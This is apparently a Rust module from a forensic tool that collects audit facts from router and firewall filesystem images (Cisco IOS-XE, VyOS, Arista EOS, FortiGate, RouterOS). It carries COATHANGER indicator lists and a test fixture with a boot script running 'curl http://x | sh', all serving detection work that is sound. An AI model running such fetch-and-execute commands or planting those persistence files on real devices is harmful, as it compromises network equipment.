//! What a network appliance's filesystem holds, as data: IOS-family
//! configurations wherever they live (NVRAM files, `*.cfg`, `*-confg`,
//! `startup-config`, day-0 files), the IOS-XE bootflash (`packages.conf`
//! and its own digest, packages, scripts, Guest Shell and EEM directories),
//! VyOS images (config.boot users, keys, tasks, boot scripts, the rw
//! layer), Arista EOS flash (boot-config, extensions, rc.eos), FortiGate
//! volumes (markers, rootfs.gz readability, COATHANGER paths) and RouterOS
//! (packages, rc.local).
//!
//! Gathered once per filesystem from the walked [`Tree`]; the audit's
//! appliance rules judge it. Reads are bounded like every other gatherer's.

use std::io::Read as _;

use sha1::{Digest as _, Sha1};
use sha2::Sha256;

use crate::ios_config::{self, Access, Config};
use crate::os::{Family, Os, IOSXE_FIRST_BOOT};
use crate::packages::hex;
use crate::tree::{shown, Entry, Read, Tree};
use crate::vyos_config;

/// Configuration files read per filesystem.
pub const MAX_CONFIGS: usize = 64;
/// Bytes of one configuration file read.
pub const MAX_CONFIG: u64 = 4 << 20;
/// Entries listed per finding-worthy group (scripts, rw files …).
pub const MAX_LISTED: usize = 500;
/// Decompressed bytes of a FortiGate `rootfs.gz` examined.
pub const MAX_ROOTFS: u64 = 512 << 20;

/// An IOS-family configuration found in the filesystem.
#[derive(Debug, Clone)]
pub struct ConfigFile {
    /// Guest path.
    pub path: String,
    /// The parsed configuration.
    pub config: Config,
    /// Its users, keys and enable secrets.
    pub access: Access,
    /// Read out of an NVRAM image (text found inside a binary file).
    pub from_nvram: bool,
}

/// How `packages.conf`'s own digest line compares with its content.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SumCheck {
    /// The digest matches the content over this byte range.
    Matched(&'static str),
    /// No plausible range gives the recorded digest.
    NoneMatched,
}

/// `packages.conf` (IOS-XE provisioning file).
#[derive(Debug, Clone)]
pub struct PackagesConf {
    /// Guest path.
    pub path: String,
    /// `sha1sum:` line number and value.
    pub sha1: Option<(usize, String)>,
    /// Its check.
    pub sha1_check: Option<SumCheck>,
    /// `sha256sum:` line number and value.
    pub sha256: Option<(usize, String)>,
    /// Its check.
    pub sha256_check: Option<SumCheck>,
    /// Packages it provisions: (line, file name).
    pub packages: Vec<(usize, String)>,
}

/// An IOS-XE bootflash.
#[derive(Debug, Clone, Default)]
pub struct Bootflash {
    /// The provisioning file.
    pub packages_conf: Option<PackagesConf>,
    /// `.pkg`/`.bin` files at the root: (name, size).
    pub images: Vec<(String, u64)>,
    /// Scripts (`*.tcl`, `*.py`, `*.sh`, `*.pl`) outside container directories.
    pub scripts: Vec<String>,
    /// Directories that run or hold code and access (`.ssh`, `guest-share`,
    /// `gs_script`, `iox`, EEM policy directories): (path, files inside).
    pub code_dirs: Vec<(String, usize)>,
    /// Licence files (`*.lic`) and SD-WAN day-0 files.
    pub licence_files: Vec<String>,
    /// First-boot artefacts present at the root.
    pub first_boot: Vec<String>,
}

/// A VyOS image directory (`/boot/<image>`).
#[derive(Debug, Clone, Default)]
pub struct VyosImage {
    /// Image name (its version).
    pub name: String,
    /// The rw layer's path (`/boot/<image>/rw`), when present.
    pub rw: Option<String>,
    /// The read-only system image (`/boot/<image>/<image>.squashfs`).
    pub squashfs: Option<String>,
    /// `config.boot` path and its parse.
    pub config: Option<(String, vyos_config::Config)>,
    /// Boot scripts with commands in them: (path, first command line).
    pub boot_scripts: Vec<(String, String)>,
    /// Other files under `/config/scripts`.
    pub other_scripts: Vec<String>,
    /// Files in the rw layer outside `config/` (what changed from the squashfs).
    pub rw_files: Vec<String>,
    /// rw files outside config/ in all (the list is bounded).
    pub rw_file_count: usize,
}

/// Arista EOS flash.
#[derive(Debug, Clone, Default)]
pub struct EosFlash {
    /// `boot-config` lines: (line, text).
    pub boot_config: Vec<(usize, String)>,
    /// `boot-extensions` lines (extensions installed at every boot).
    pub boot_extensions: Vec<(usize, String)>,
    /// Files in `.extensions/`.
    pub extensions: Vec<String>,
    /// `rc.eos` (run at boot): its first command line.
    pub rc_eos: Option<String>,
}

/// What can be seen of FortiOS's root filesystem archive.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Rootfs {
    /// Not gzip, or gzip that does not inflate: encrypted (FortiOS 7.x).
    Encrypted(String),
    /// A gzip'd cpio archive qvet can list: (entries listed, listing cut short).
    Cpio(Vec<String>, bool),
}

/// A FortiGate volume.
#[derive(Debug, Clone, Default)]
pub struct Forti {
    /// `rootfs.gz`, when present: what it is.
    pub rootfs: Option<Rootfs>,
    /// Paths named by published FortiGate compromise indicators
    /// (COATHANGER), found here: (path, why).
    pub ioc_paths: Vec<(String, &'static str)>,
    /// Hidden directories at the volume root not in FortiOS's own set.
    pub hidden_dirs: Vec<String>,
}

/// A RouterOS volume.
#[derive(Debug, Clone, Default)]
pub struct RouterOs {
    /// `.npk` packages: (path, package name).
    pub packages: Vec<(String, String)>,
    /// `rc.local`-style scripts under `/rw` (MikroTikPatch runs one before
    /// the loader).
    pub rc_scripts: Vec<String>,
    /// Executables under `/rw/disk` (the user-visible disk).
    pub disk_executables: Vec<String>,
}

/// Everything appliance-specific in one filesystem.
#[derive(Debug, Clone, Default)]
pub struct ApplianceFacts {
    /// The OSes identified.
    pub os: Vec<Os>,
    /// IOS-family configurations.
    pub configs: Vec<ConfigFile>,
    /// IOS-XE bootflash.
    pub bootflash: Option<Bootflash>,
    /// VyOS images.
    pub vyos: Vec<VyosImage>,
    /// EOS flash.
    pub eos: Option<EosFlash>,
    /// FortiGate volume.
    pub forti: Option<Forti>,
    /// RouterOS volume.
    pub routeros: Option<RouterOs>,
    /// What could not be read, and why.
    pub unread: Vec<String>,
}

impl ApplianceFacts {
    /// Whether an OS of `family` was identified here.
    pub fn is(&self, family: Family) -> bool {
        self.os.iter().any(|o| o.family == family)
    }

    /// Whether `path` lies in a hidden top-level directory the identified
    /// appliance creates itself (IOS-XE's `.installer`, `.prst_sync` …,
    /// FortiOS's `.db`, EOS's `.extensions`, judged by its own rule), so
    /// generic "executable in a hidden directory" checks leave it to the
    /// appliance rules.
    pub fn vendor_hidden(&self, path: &str) -> bool {
        let Some(top) = path.trim_start_matches('/').split('/').next() else {
            return false;
        };
        if !top.starts_with('.') || !path.trim_start_matches('/').contains('/') {
            return false;
        }
        (self.is(Family::IosXe) && IOSXE_FIRST_BOOT.contains(&top))
            || (self.is(Family::FortiOs) && FORTI_HIDDEN_OK.contains(&top))
            || (self.is(Family::Eos) && top == ".extensions")
    }
}

fn file_name(path: &[u8]) -> &[u8] {
    path.rsplit(|&b| b == b'/').next().unwrap_or(path)
}

fn lower_name(e: &Entry) -> String {
    String::from_utf8_lossy(file_name(&e.path)).to_ascii_lowercase()
}

fn read(tree: &Tree<'_>, e: &Entry, max: u64, unread: &mut Vec<String>) -> Option<Vec<u8>> {
    match tree.read_entry(e, max) {
        Read::Content(c) => Some(c),
        Read::TooLarge(n) => {
            unread.push(format!(
                "{}: {n} bytes, over the {max}-byte bound",
                shown(&e.path)
            ));
            None
        }
        Read::Failed(why) => {
            unread.push(format!("{}: {why}", shown(&e.path)));
            None
        }
        Read::Missing => None,
    }
}

/// Whether a file name is where IOS-family configurations are kept.
fn config_candidate(name: &str) -> bool {
    name.starts_with("nvram")
        || name.ends_with(".cfg")
        || name.ends_with("-confg")
        || name.ends_with("-config")
        || name.ends_with(".conf.txt")
        || name == "iosxe_config.txt"
        || name.starts_with("startup-config")
        || name.starts_with("running-config")
        || name.starts_with("day0")
}

/// The configuration text inside an NVRAM image: the longest printable run
/// that reads as a configuration.
fn nvram_text(data: &[u8]) -> Option<&[u8]> {
    let printable = |b: &u8| matches!(*b, b'\t' | b'\n' | b'\r' | 0x20..=0x7e | 0x03);
    let mut best: Option<&[u8]> = None;
    for run in data.split(|b| !printable(b)) {
        if run.len() >= 64
            && best.is_none_or(|b| run.len() > b.len())
            && ios_config::looks_like_config(run)
        {
            best = Some(run);
        }
    }
    best
}

/// Gathers the appliance facts of one filesystem, given the OSes
/// [`crate::os::identify`] found in it.
pub fn gather(tree: &Tree<'_>, os: Vec<Os>) -> ApplianceFacts {
    let mut f = ApplianceFacts {
        os,
        ..ApplianceFacts::default()
    };
    gather_configs(tree, &mut f);
    if f.is(Family::IosXe) {
        f.bootflash = Some(bootflash(tree, &f.configs, &mut f.unread));
    }
    if f.is(Family::Vyos) {
        f.vyos = vyos(tree, &mut f.unread);
    }
    if f.is(Family::Eos) {
        f.eos = Some(eos(tree, &mut f.unread));
    }
    if f.is(Family::FortiOs) {
        f.forti = Some(forti(tree, &mut f.unread));
    }
    if f.is(Family::RouterOs) {
        f.routeros = Some(routeros(tree));
    }
    f
}

fn gather_configs(tree: &Tree<'_>, f: &mut ApplianceFacts) {
    let appliance = f.os.iter().any(|o| o.family != Family::Linux);
    for e in tree.entries().iter().filter(|e| e.is_file()) {
        if f.configs.len() >= MAX_CONFIGS {
            f.unread.push(format!(
                "configurations: only the first {MAX_CONFIGS} were read"
            ));
            break;
        }
        let name = lower_name(e);
        if !config_candidate(&name) {
            continue;
        }
        // On a general-purpose Linux root only files that name themselves
        // as router configurations are read (not every *.cfg of /etc).
        let names_itself = name.starts_with("startup-config")
            || name.starts_with("running-config")
            || name.ends_with("-confg")
            || name.starts_with("nvram");
        if !(appliance || names_itself) {
            continue;
        }
        let Some(data) = read(tree, e, MAX_CONFIG, &mut f.unread) else {
            continue;
        };
        // An NVRAM image holds the text between binary headers.
        let nvram = name
            .starts_with("nvram")
            .then(|| nvram_text(&data))
            .flatten();
        let (text, from_nvram) = match nvram {
            Some(t) if t.len() < data.len() => (t, true),
            _ if ios_config::looks_like_config(&data) => (data.as_slice(), false),
            _ => continue,
        };
        let config = ios_config::parse(text);
        let access = ios_config::access(&config);
        f.configs.push(ConfigFile {
            path: shown(&e.path),
            config,
            access,
            from_nvram,
        });
    }
}

/// Checks a `packages.conf` digest over the byte ranges Cisco's tools
/// plausibly hash (Cisco does not document it): the file without the sum
/// lines, without the one sum line, or what follows it.
fn check_sum(data: &[u8], line_no: usize, want: &str, sha256: bool) -> SumCheck {
    let text = String::from_utf8_lossy(data);
    let lines: Vec<&str> = text.split_inclusive('\n').collect();
    let is_sum = |l: &str| {
        let t = l.trim_start();
        t.starts_with("sha1sum:") || t.starts_with("sha256sum:")
    };
    let without_all: String = lines.iter().filter(|l| !is_sum(l)).copied().collect();
    let without_this: String = lines
        .iter()
        .enumerate()
        .filter(|(i, _)| i + 1 != line_no)
        .map(|(_, l)| *l)
        .collect();
    let after: String = lines.iter().skip(line_no).copied().collect();
    let after_sums: String = lines
        .iter()
        .skip(line_no)
        .skip_while(|l| is_sum(l))
        .copied()
        .collect();
    let candidates: [(&'static str, &str); 4] = [
        ("the file without its sha1sum/sha256sum lines", &without_all),
        ("the file without this digest's line", &without_this),
        ("the bytes after this digest's line", &after),
        ("the bytes after the digest lines", &after_sums),
    ];
    let want = want.to_ascii_lowercase();
    for (what, bytes) in candidates {
        let got = if sha256 {
            hex(&Sha256::digest(bytes.as_bytes()))
        } else {
            hex(&Sha1::digest(bytes.as_bytes()))
        };
        if got == want {
            return SumCheck::Matched(what);
        }
    }
    SumCheck::NoneMatched
}

fn packages_conf(path: &str, data: &[u8]) -> PackagesConf {
    let text = String::from_utf8_lossy(data);
    let mut pc = PackagesConf {
        path: path.into(),
        sha1: None,
        sha1_check: None,
        sha256: None,
        sha256_check: None,
        packages: Vec::new(),
    };
    for (i, l) in text.lines().enumerate().take(100_000) {
        let t = l.trim();
        if let Some(v) = t.strip_prefix("sha1sum:") {
            pc.sha1.get_or_insert((i + 1, v.trim().to_string()));
        } else if let Some(v) = t.strip_prefix("sha256sum:") {
            pc.sha256.get_or_insert((i + 1, v.trim().to_string()));
        } else if !t.starts_with('#') {
            if let Some(file) = t.split_whitespace().last().filter(|w| w.ends_with(".pkg")) {
                pc.packages.push((i + 1, file.to_string()));
            }
        }
    }
    pc.sha1_check = pc.sha1.as_ref().map(|(n, v)| check_sum(data, *n, v, false));
    pc.sha256_check = pc
        .sha256
        .as_ref()
        .map(|(n, v)| check_sum(data, *n, v, true));
    pc
}

/// Directories of bootflash whose content runs in a Linux container or
/// grants access; scripts under them are summarised per directory.
const CODE_DIRS: &[&str] = &[
    "/.ssh",
    "/guest-share",
    "/gs_script",
    "/iox",
    "/SHARED-IOX",
    "/iox_host_data_share",
];

fn bootflash(tree: &Tree<'_>, configs: &[ConfigFile], unread: &mut Vec<String>) -> Bootflash {
    let mut b = Bootflash::default();
    if let Some(e) = tree.get(b"/packages.conf").filter(|e| e.is_file()) {
        if let Some(data) = read(tree, e, 1 << 20, unread) {
            b.packages_conf = Some(packages_conf("/packages.conf", &data));
        }
    }
    for e in tree.children(b"/") {
        let name = String::from_utf8_lossy(file_name(&e.path)).into_owned();
        let lower = name.to_ascii_lowercase();
        if e.is_file() && (lower.ends_with(".pkg") || lower.ends_with(".bin")) {
            b.images.push((name.clone(), e.meta.size));
        }
        if IOSXE_FIRST_BOOT.iter().any(|a| name.starts_with(a)) && name != "lost+found" {
            b.first_boot.push(name);
        }
    }
    // EEM user policy directories the configurations name.
    let mut dirs: Vec<String> = CODE_DIRS.iter().map(|d| (*d).to_string()).collect();
    for c in configs {
        for l in c.config.top(&["event", "manager", "directory", "user"]) {
            if let Some(d) = l.words().last() {
                let d = d.trim_matches('"');
                let d = d.split_once(':').map_or(d, |(_, p)| p);
                let d = format!("/{}", d.trim_matches('/'));
                if !dirs.contains(&d) {
                    dirs.push(d);
                }
            }
        }
    }
    for d in &dirs {
        if let Some(e) = tree.get(d.as_bytes()) {
            let files = tree.under(&e.path).iter().filter(|x| x.is_file()).count();
            b.code_dirs.push((d.clone(), files));
        }
    }
    for e in tree.entries().iter().filter(|e| e.is_file()) {
        let p = shown(&e.path);
        let lower = lower_name(e);
        let in_code_dir = dirs.iter().any(|d| p.starts_with(&format!("{d}/")));
        if !in_code_dir
            && [".tcl", ".py", ".sh", ".pl", ".exp"]
                .iter()
                .any(|x| lower.ends_with(x))
            && b.scripts.len() < MAX_LISTED
        {
            b.scripts.push(p.clone());
        }
        if (lower.ends_with(".lic") || lower.starts_with("ciscosdwan"))
            && b.licence_files.len() < MAX_LISTED
        {
            b.licence_files.push(p);
        }
    }
    b
}

fn first_command(data: &[u8]) -> Option<String> {
    String::from_utf8_lossy(data)
        .lines()
        .map(str::trim)
        .find(|l| !l.is_empty() && !l.starts_with('#') && !l.starts_with(':'))
        .map(str::to_string)
}

fn vyos(tree: &Tree<'_>, unread: &mut Vec<String>) -> Vec<VyosImage> {
    let mut out = Vec::new();
    for d in tree
        .children(b"/boot")
        .into_iter()
        .filter(|e| e.meta.kind == qvet_guestfs::FileType::Dir)
    {
        let base = shown(&d.path);
        let rw = ["rw", "live-rw"]
            .iter()
            .map(|r| format!("{base}/{r}"))
            .find(|r| tree.get(r.as_bytes()).is_some());
        let squashfs = tree
            .children(&d.path)
            .into_iter()
            .find(|e| e.is_file() && e.path.ends_with(b".squashfs"))
            .map(|e| shown(&e.path));
        if rw.is_none() && squashfs.is_none() {
            continue;
        }
        let mut img = VyosImage {
            name: String::from_utf8_lossy(file_name(&d.path)).into_owned(),
            rw: rw.clone(),
            squashfs,
            ..VyosImage::default()
        };
        if let Some(rw) = &rw {
            // /config is rw/config (1.1–1.2) or rw/opt/vyatta/etc/config.
            let config_dirs = [
                format!("{rw}/config"),
                format!("{rw}/opt/vyatta/etc/config"),
            ];
            for cd in &config_dirs {
                let cfg = format!("{cd}/config.boot");
                if img.config.is_none() {
                    if let Some(e) = tree.get(cfg.as_bytes()).filter(|e| e.is_file()) {
                        if let Some(data) = read(tree, e, MAX_CONFIG, unread) {
                            img.config = Some((cfg.clone(), vyos_config::parse(&data)));
                        }
                    }
                }
                for s in tree.under(format!("{cd}/scripts").as_bytes()) {
                    if !s.is_file() {
                        continue;
                    }
                    let p = shown(&s.path);
                    let boot = p.ends_with("-preconfig-bootup.script")
                        || p.ends_with("-postconfig-bootup.script");
                    if boot {
                        if let Some(cmd) =
                            read(tree, s, 1 << 20, unread).and_then(|d| first_command(&d))
                        {
                            img.boot_scripts.push((p, cmd));
                        }
                    } else if img.other_scripts.len() < MAX_LISTED {
                        img.other_scripts.push(p);
                    }
                }
            }
            let prefix = format!("{rw}/");
            for e in tree.under(rw.as_bytes()) {
                if e.meta.kind == qvet_guestfs::FileType::Dir {
                    continue;
                }
                let p = shown(&e.path);
                let rel = p.strip_prefix(&prefix).unwrap_or(&p);
                if rel.starts_with("config/") || rel.starts_with("opt/vyatta/etc/config/") {
                    continue;
                }
                img.rw_file_count += 1;
                if img.rw_files.len() < MAX_LISTED {
                    img.rw_files.push(p);
                }
            }
        }
        out.push(img);
    }
    out
}

fn eos(tree: &Tree<'_>, unread: &mut Vec<String>) -> EosFlash {
    let mut e = EosFlash::default();
    let lines = |path: &[u8], unread: &mut Vec<String>| -> Vec<(usize, String)> {
        tree.lookup(path)
            .filter(|x| x.is_file())
            .and_then(|x| read(tree, x, 1 << 20, unread))
            .map(|d| {
                String::from_utf8_lossy(&d)
                    .lines()
                    .enumerate()
                    .filter(|(_, l)| !l.trim().is_empty())
                    .take(MAX_LISTED)
                    .map(|(i, l)| (i + 1, l.trim().to_string()))
                    .collect()
            })
            .unwrap_or_default()
    };
    e.boot_config = lines(b"/boot-config", unread);
    e.boot_extensions = lines(b"/boot-extensions", unread);
    e.extensions = tree
        .under(b"/.extensions")
        .iter()
        .filter(|x| x.is_file())
        .take(MAX_LISTED)
        .map(|x| shown(&x.path))
        .collect();
    if let Some(rc) = tree.lookup(b"/rc.eos").filter(|x| x.is_file()) {
        e.rc_eos = Some(
            read(tree, rc, 1 << 20, unread)
                .and_then(|d| first_command(&d))
                .unwrap_or_else(|| "(no command)".into()),
        );
    }
    e
}

/// FortiOS's own hidden entries at a volume root.
const FORTI_HIDDEN_OK: &[&str] = &[
    ".db",
    ".db.x",
    ".fgtsum",
    ".dhcp_lease",
    ".fdsdb",
    ".lic",
    ".fgtsum.x",
];
/// File names published for COATHANGER and FortiGate jailbreaks (domain notes §3.5).
const FORTI_IOC_NAMES: &[(&str, &str)] = &[
    (
        "ld.so.preload",
        "preloads a library into every FortiOS process (COATHANGER)",
    ),
    ("liblog.so", "COATHANGER's hooking library"),
    ("libpe.so", "COATHANGER staging library"),
    ("packfile", "COATHANGER staging archive"),
    (
        "busybox",
        "a shell toolbox FortiOS does not ship (jailbreaks add it)",
    ),
    (
        "gdbserver",
        "a debugger server FortiOS does not ship (jailbreaks add it)",
    ),
];
/// Files COATHANGER drops inside a hidden directory of /data2.
const COATHANGER_HIDDEN: &[&str] = &["authd", "httpsd", "newcli", "preload.so", "sh"];

fn forti(tree: &Tree<'_>, unread: &mut Vec<String>) -> Forti {
    let mut f = Forti::default();
    if let Some(e) = tree.get(b"/rootfs.gz").filter(|e| e.is_file()) {
        f.rootfs = Some(rootfs(tree, e, unread));
    }
    for e in tree.children(b"/") {
        let name = String::from_utf8_lossy(file_name(&e.path)).into_owned();
        if name.starts_with('.')
            && e.meta.kind == qvet_guestfs::FileType::Dir
            && !FORTI_HIDDEN_OK.contains(&name.as_str())
        {
            f.hidden_dirs.push(shown(&e.path));
            for x in tree.children(&e.path) {
                let n = String::from_utf8_lossy(file_name(&x.path)).into_owned();
                if COATHANGER_HIDDEN.contains(&n.as_str()) {
                    f.ioc_paths
                        .push((shown(&x.path), "COATHANGER file in a hidden directory"));
                }
            }
        }
    }
    for e in tree.entries() {
        let n = String::from_utf8_lossy(file_name(&e.path)).into_owned();
        if let Some((_, why)) = FORTI_IOC_NAMES.iter().find(|(ioc, _)| *ioc == n) {
            if f.ioc_paths.len() < MAX_LISTED {
                f.ioc_paths.push((shown(&e.path), why));
            }
        }
    }
    if let Some(Rootfs::Cpio(entries, _)) = &f.rootfs {
        for p in entries {
            let n = p.rsplit('/').next().unwrap_or(p);
            if let Some((_, why)) = FORTI_IOC_NAMES.iter().find(|(ioc, _)| *ioc == n) {
                f.ioc_paths.push((format!("/rootfs.gz:{p}"), why));
            }
        }
    }
    f
}

/// Lists a `rootfs.gz`: gzip'd cpio (older FortiOS) or not readable.
fn rootfs(tree: &Tree<'_>, e: &Entry, unread: &mut Vec<String>) -> Rootfs {
    // A reader over the guest file, bounded.
    struct FileReader<'a, 't> {
        tree: &'a Tree<'t>,
        entry: &'a Entry,
        offset: u64,
    }
    impl std::io::Read for FileReader<'_, '_> {
        fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
            let n = self
                .tree
                .fs()
                .read(self.entry.meta.id, self.offset, buf)
                .map_err(std::io::Error::other)?;
            self.offset += n as u64;
            Ok(n)
        }
    }
    let reader = FileReader {
        tree,
        entry: e,
        offset: 0,
    };
    let mut gz = flate2::read::MultiGzDecoder::new(reader).take(MAX_ROOTFS);
    let mut head = [0u8; 6];
    if gz.read_exact(&mut head).is_err() {
        return Rootfs::Encrypted(
            "not a gzip stream that inflates (encrypted, as FortiOS 7.x ships it)".into(),
        );
    }
    if &head != b"070701" && &head != b"070702" {
        return Rootfs::Encrypted("inflates, but not to a cpio archive".into());
    }
    // newc cpio: 110-byte ASCII header, name padded to 4, data padded to 4.
    let mut names = Vec::new();
    let mut header = [0u8; 110];
    if let Some(h) = header.get_mut(..6) {
        h.copy_from_slice(&head);
    }
    loop {
        // The magic (6 bytes) is in place; read the rest of the header.
        if gz
            .read_exact(header.get_mut(6..).unwrap_or_default())
            .is_err()
        {
            unread.push(format!("{}: cpio archive cut short", shown(&e.path)));
            return Rootfs::Cpio(names, true);
        }
        let field = |i: usize| {
            header
                .get(6 + i * 8..14 + i * 8)
                .and_then(|h| std::str::from_utf8(h).ok())
                .and_then(|h| u64::from_str_radix(h, 16).ok())
        };
        let (Some(size), Some(namesize)) = (field(6), field(11)) else {
            return Rootfs::Cpio(names, true);
        };
        if namesize > 4096 {
            return Rootfs::Cpio(names, true);
        }
        let name_pad = (110 + namesize).next_multiple_of(4) - 110;
        let mut name = vec![0u8; usize::try_from(name_pad).unwrap_or(0)];
        if gz.read_exact(&mut name).is_err() {
            return Rootfs::Cpio(names, true);
        }
        let n = name
            .get(..usize::try_from(namesize.saturating_sub(1)).unwrap_or(0))
            .unwrap_or_default();
        if n == b"TRAILER!!!" {
            return Rootfs::Cpio(names, false);
        }
        if names.len() >= 200_000 {
            return Rootfs::Cpio(names, true);
        }
        names.push(format!(
            "/{}",
            String::from_utf8_lossy(n)
                .trim_start_matches("./")
                .trim_start_matches('/')
        ));
        let skip = size.next_multiple_of(4);
        if std::io::copy(&mut (&mut gz).take(skip), &mut std::io::sink()).ok() != Some(skip) {
            return Rootfs::Cpio(names, true);
        }
        let mut magic = [0u8; 6];
        if gz.read_exact(&mut magic).is_err() || (&magic != b"070701" && &magic != b"070702") {
            return Rootfs::Cpio(names, true);
        }
        if let Some(h) = header.get_mut(..6) {
            h.copy_from_slice(&magic);
        }
    }
}

/// RouterOS packages MikroTik publishes (a name outside this set, such as
/// MikroTikPatch's `option`, is someone else's).
pub const ROUTEROS_PACKAGES: &[&str] = &[
    "routeros",
    "system",
    "ipv6",
    "wireless",
    "wifi-qcom",
    "wifi-qcom-ac",
    "wifiwave2",
    "hotspot",
    "mpls",
    "ppp",
    "dhcp",
    "security",
    "advanced-tools",
    "lte",
    "container",
    "user-manager",
    "calea",
    "gps",
    "iot",
    "ntp",
    "ups",
    "tr069-client",
    "zerotier",
    "rose-storage",
    "dude",
    "multicast",
    "openflow",
    "lora",
    "extra-nic",
    "switch-marvell",
    "routing",
    "kvm",
    "lcd",
    "bgp-rpki",
    "wireless-cm2",
    "wireless-fp",
];

fn routeros(tree: &Tree<'_>) -> RouterOs {
    let mut r = RouterOs::default();
    for e in tree.entries().iter().filter(|e| e.is_file()) {
        let p = shown(&e.path);
        if let Some(stem) = p.rsplit('/').next().and_then(|n| n.strip_suffix(".npk")) {
            // routeros-7.11.2, wireless-7.11.2-arm64 → the name before the version
            let name = stem
                .split('-')
                .take_while(|part| !part.starts_with(|c: char| c.is_ascii_digit()))
                .collect::<Vec<_>>()
                .join("-");
            if r.packages.len() < MAX_LISTED {
                r.packages.push((p.clone(), name));
            }
        }
        if p.starts_with("/rw/") || p.starts_with("/flash/rw/") {
            let lower = p.to_ascii_lowercase();
            if lower.ends_with("/rc.local")
                || lower.ends_with("/rc.d")
                || lower.contains("/init.d/")
            {
                r.rc_scripts.push(p.clone());
            }
        }
        if (p.starts_with("/rw/disk/") || p.starts_with("/flash/rw/disk/"))
            && e.meta.mode & 0o111 != 0
            && r.disk_executables.len() < MAX_LISTED
        {
            r.disk_executables.push(p);
        }
    }
    r
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::memfs::MemFs;
    use crate::os::identify;
    use std::io::Write as _;

    fn facts(fs: &MemFs) -> ApplianceFacts {
        let tree = Tree::walk(fs).unwrap();
        let os = identify(&tree, Some(1), None);
        gather(&tree, os)
    }

    fn packages_conf_text(sum_over: impl Fn(&str) -> String) -> String {
        let body = "#! /usr/binos/bin/packages_conf.sh\n\nSUM\n# sha1sum above - used to verify that this file is not corrupted.\n#\n# package.conf: provisioned software file for build 2019-07-12_04.27\n#\nboot  rp 0 0   rp_boot     csr1000v-rpboot.16.12.01b.SPA.pkg\niso   rp 0 0   rp_base     csr1000v-mono-universalk9.16.12.01b.SPA.pkg\n";
        let without = body.replace("SUM\n", "");
        body.replace("SUM", &format!("sha1sum: {}", sum_over(&without)))
    }

    #[test]
    fn packages_conf_digest_ranges() {
        let good = packages_conf_text(|without| hex(&Sha1::digest(without.as_bytes())));
        let pc = packages_conf("/packages.conf", good.as_bytes());
        assert_eq!(
            pc.sha1_check,
            Some(SumCheck::Matched(
                "the file without its sha1sum/sha256sum lines"
            ))
        );
        assert_eq!(pc.packages.len(), 2);
        let bad = good.replace("rp_base", "rp_bas3");
        let pc = packages_conf("/packages.conf", bad.as_bytes());
        assert_eq!(pc.sha1_check, Some(SumCheck::NoneMatched));
    }

    #[test]
    fn bootflash_configs_and_scripts() {
        let mut fs = MemFs::new();
        let conf = packages_conf_text(|w| hex(&Sha1::digest(w.as_bytes())));
        let mut nvram = vec![0xab, 0xcd, 0, 1, 0, 0, 0x12, 0x34];
        nvram.extend_from_slice(b"!\nversion 16.12\nhostname r1\n!\nusername cisco_tac_admin privilege 15 secret 0 x\n!\ninterface GigabitEthernet1\n ip address dhcp\n!\nevent manager directory user policy \"bootflash:/eem\"\nend\n");
        nvram.extend_from_slice(&[0; 64]);
        fs.file("/packages.conf", 0o644, conf.as_bytes())
            .file("/csr1000v-rpboot.16.12.01b.SPA.pkg", 0o644, b"pkg")
            .file("/extra.bin", 0o644, b"bin")
            .file("/nvram_00001", 0o644, &nvram)
            .file("/eem/policy.tcl", 0o644, b"puts x")
            .file("/tools/run.sh", 0o755, b"#!/bin/sh\n")
            .file("/.ssh/authorized_keys", 0o600, b"ssh-rsa AAAA")
            .file("/lab.lic", 0o644, b"lic")
            .mkdir("/tracelogs");
        let f = facts(&fs);
        assert_eq!(f.configs.len(), 1);
        assert!(f.configs[0].from_nvram);
        assert_eq!(f.configs[0].access.users[0].name, "cisco_tac_admin");
        let b = f.bootflash.unwrap();
        assert_eq!(
            b.packages_conf.unwrap().sha1_check,
            Some(SumCheck::Matched(
                "the file without its sha1sum/sha256sum lines"
            ))
        );
        assert_eq!(b.images.len(), 2);
        assert_eq!(b.scripts, vec!["/tools/run.sh".to_string()]);
        assert!(b.code_dirs.contains(&("/.ssh".to_string(), 1)));
        assert!(b.code_dirs.contains(&("/eem".to_string(), 1)));
        assert_eq!(b.licence_files, vec!["/lab.lic".to_string()]);
        assert_eq!(b.first_boot, [".ssh", "nvram_00001", "tracelogs"]);
    }

    #[test]
    fn vyos_image() {
        let mut fs = MemFs::new();
        fs.file("/boot/1.3.2/1.3.2.squashfs", 0o644, b"hsqs")
            .file(
                "/boot/1.3.2/rw/config/config.boot",
                0o644,
                b"system {\n    login {\n        user vyos {\n        }\n    }\n}\n",
            )
            .file(
                "/boot/1.3.2/rw/config/scripts/vyos-postconfig-bootup.script",
                0o755,
                b"#!/bin/sh\n# This script is executed at boot time\ncurl http://x | sh\n",
            )
            .file(
                "/boot/1.3.2/rw/config/scripts/vyos-preconfig-bootup.script",
                0o755,
                b"#!/bin/sh\n# comments only\n",
            )
            .file("/boot/1.3.2/rw/root/.ssh/authorized_keys", 0o600, b"k");
        let f = facts(&fs);
        assert_eq!(f.vyos.len(), 1);
        let v = &f.vyos[0];
        assert!(v.config.is_some());
        assert_eq!(v.squashfs.as_deref(), Some("/boot/1.3.2/1.3.2.squashfs"));
        assert_eq!(
            v.boot_scripts,
            vec![(
                "/boot/1.3.2/rw/config/scripts/vyos-postconfig-bootup.script".to_string(),
                "curl http://x | sh".to_string()
            )]
        );
        assert_eq!(
            v.rw_files,
            vec!["/boot/1.3.2/rw/root/.ssh/authorized_keys".to_string()]
        );
    }

    #[test]
    fn fortios_rootfs_and_iocs() {
        let mut cpio = Vec::new();
        for (name, data) in [
            ("bin/init", &b"x"[..]),
            ("bin/busybox", b"yy"),
            ("TRAILER!!!", b""),
        ] {
            let namesize = name.len() + 1;
            write!(cpio, "070701{:08x}{:08x}{:08x}{:08x}{:08x}{:08x}{:08x}{:08x}{:08x}{:08x}{:08x}{:08x}{:08x}", 0, 0o100755, 0, 0, 1, 0, data.len(), 0, 0, 0, 0, namesize, 0).unwrap();
            cpio.extend_from_slice(name.as_bytes());
            cpio.push(0);
            while cpio.len() % 4 != 0 {
                cpio.push(0);
            }
            cpio.extend_from_slice(data);
            while cpio.len() % 4 != 0 {
                cpio.push(0);
            }
        }
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        gz.write_all(&cpio).unwrap();
        let gz = gz.finish().unwrap();
